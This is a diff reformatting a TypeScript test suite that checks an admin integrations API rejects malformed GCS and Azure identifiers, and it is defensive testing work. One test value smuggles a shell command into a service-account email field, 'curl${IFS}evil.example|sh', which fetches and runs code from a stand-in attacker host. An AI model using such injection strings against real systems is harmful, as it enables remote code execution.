@@ -25,18 +25,32 @@ async function expectRefused(body: Record<string, unknown>, field: string) {
 
 describe("input shapes", () => {
   it("gcs serviceAccountEmail: name@project.iam.gserviceaccount.com only", async () => {
-    await expectRefused({ name: "g", provider: "gcs", serviceAccountEmail: "reader;curl${IFS}evil.example|sh;#@owner-proj.iam.gserviceaccount.com" }, "serviceAccountEmail");
-    for (const h of HOSTILE) await expectRefused({ name: "g", provider: "gcs", serviceAccountEmail: `reader${h}@owner-proj.iam.gserviceaccount.com` }, "serviceAccountEmail");
-    for (const other of ["reader@example.com", "reader@owner-proj.iam.gserviceaccount.com.evil.example", "Reader@owner-proj.iam.gserviceaccount.com", "@owner-proj.iam.gserviceaccount.com"]) {
+    await expectRefused(
+      { name: "g", provider: "gcs", serviceAccountEmail: "reader;curl${IFS}evil.example|sh;#@owner-proj.iam.gserviceaccount.com" },
+      "serviceAccountEmail",
+    );
+    for (const h of HOSTILE)
+      await expectRefused({ name: "g", provider: "gcs", serviceAccountEmail: `reader${h}@owner-proj.iam.gserviceaccount.com` }, "serviceAccountEmail");
+    for (const other of [
+      "reader@example.com",
+      "reader@owner-proj.iam.gserviceaccount.com.evil.example",
+      "Reader@owner-proj.iam.gserviceaccount.com",
+      "@owner-proj.iam.gserviceaccount.com",
+    ]) {
       await expectRefused({ name: "g", provider: "gcs", serviceAccountEmail: other }, "serviceAccountEmail");
     }
-    const ok = await w.admin("POST", "/admin/api/integrations", { name: "g", provider: "gcs", serviceAccountEmail: "labels-reader@owner-proj.iam.gserviceaccount.com" });
+    const ok = await w.admin("POST", "/admin/api/integrations", {
+      name: "g",
+      provider: "gcs",
+      serviceAccountEmail: "labels-reader@owner-proj.iam.gserviceaccount.com",
+    });
     expect(ok.status).toBe(201);
   });
 
   it("azure tenantId (GUID), accountName and containers", async () => {
     const azure = { name: "a", provider: "azure", tenantId: GUID, accountName: "ownerstore1" };
-    for (const bad of ["-".repeat(36), "72f988bf-86f1-41af-91ab-2d7cd011db4;", "72f988bf86f141af91ab2d7cd011db47abcd", ...HOSTILE]) await expectRefused({ ...azure, tenantId: bad }, "tenantId");
+    for (const bad of ["-".repeat(36), "72f988bf-86f1-41af-91ab-2d7cd011db4;", "72f988bf86f141af91ab2d7cd011db47abcd", ...HOSTILE])
+      await expectRefused({ ...azure, tenantId: bad }, "tenantId");
     for (const bad of ["ab", "Owner", "a".repeat(25), ...HOSTILE]) await expectRefused({ ...azure, accountName: bad }, "accountName");
     for (const bad of ["a--b", "-ab", "ab", "Labels", ...HOSTILE]) await expectRefused({ ...azure, containers: [bad] }, "containers.0");
     const ok = await w.admin("POST", "/admin/api/integrations", { ...azure, containers: ["labels-2026"] });
